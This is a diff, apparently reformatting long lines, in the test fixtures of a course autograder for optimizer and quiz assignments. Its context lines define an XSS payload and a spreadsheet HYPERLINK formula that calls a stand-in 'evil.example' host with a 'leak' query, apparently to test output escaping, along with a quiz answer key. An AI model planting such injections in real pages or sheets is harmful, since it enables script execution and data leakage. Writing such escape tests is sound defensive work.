@@ -19,8 +19,8 @@ from test_grading_support import OPTIMIZERS_SOURCE, optimizers_with
 
 HOSTILE_HTML = "<img src=x onerror=alert(1)>"
 HOSTILE_FORMULA = '=HYPERLINK("evil.example?leak","x")'  # no "/": it is also a folder name
-MISSING_FLOOR = ("the floor is missing: decay by floor(epoch_num / time_interval) so the rate stays "
-                 "constant within an interval")
+MISSING_FLOOR = ("the floor is missing: decay by floor(epoch_num / time_interval) so the rate "
+                 "stays constant within an interval")
 
 ADAM_EPS_INSIDE = optimizers_with('''
 def update_parameters_with_adam(parameters, grads, v, s, t, learning_rate=0.01, beta1=0.9,
@@ -31,7 +31,9 @@ def update_parameters_with_adam(parameters, grads, v, s, t, learning_rate=0.01, 
         s[key] = beta2 * s[key] + (1 - beta2) * grads[key] ** 2
         v_corrected[key] = v[key] / (1 - beta1**t)
         s_corrected[key] = s[key] / (1 - beta2**t)
-        parameters[key[1:]] -= learning_rate * v_corrected[key] / np.sqrt(s_corrected[key] + epsilon)
+        parameters[key[1:]] -= (
+            learning_rate * v_corrected[key] / np.sqrt(s_corrected[key] + epsilon)
+        )
     return parameters, v, s, v_corrected, s_corrected
 ''')
 NO_FLOOR = optimizers_with('''
@@ -63,14 +65,17 @@ OPTIMIZATION = {
 QUIZ = {
     "q1": {"most_variance": "A", "different_influence": ["A", "D"]},  # 6 of 6
     "q2": {"most_variance": "B", "different_influence": ["A", "D"]},  # 5
-    "q3": {"most_variance": "C", "not_true_gradient_descent": "A", "different_influence": ["A", "D"]},  # 4
-    "q4": {"most_variance": "A", "different_influence": ["A", "B", "C"]},  # 4: 1 right, 2 wrong -> 0
+    "q3": {"most_variance": "C", "not_true_gradient_descent": "A",
+           "different_influence": ["A", "D"]},  # 4
+    # 4: 1 right, 2 wrong -> 0
+    "q4": {"most_variance": "A", "different_influence": ["A", "B", "C"]},
 }
 QUIZ_RIGHT = {"not_true_gradient_descent": "B", "always_global_minimum": "E",
               "least_successful_ravine": "B"}
 #: student -> answers of initialization_quiz (two free-response items)
 FREE = {
-    "f1": {"constant_weight_variance": "All units compute the same thing.", "relu_assumption": "Half."},
+    "f1": {"constant_weight_variance": "All units compute the same thing.",
+           "relu_assumption": "Half."},
     "f2": {"constant_weight_variance": ""},  # an empty answer is recorded; a missing one is not
 }
 #: A results.json that is not JSON: this student is skipped, the others are counted.
@@ -128,9 +133,11 @@ def copy_course(course: Path, destination: Path) -> Path:
 def results_json(tests: list[dict], assignment: str = "optimization") -> dict:
     """A results.json in this grader's shape; each test ``{"name", "score", ...}``."""
     return {
-        "score": sum(test.get("score", 0) for test in tests if isinstance(test.get("score"), (int, float))),
+        "score": sum(test.get("score", 0) for test in tests
+                     if isinstance(test.get("score"), (int, float))),
         "output": "",
-        "tests": [{"max_score": 1.0, "output": "", "visibility": "visible", **test} for test in tests],
+        "tests": [{"max_score": 1.0, "output": "", "visibility": "visible", **test}
+                  for test in tests],
         "extra_data": {"assignment": assignment},
     }
 
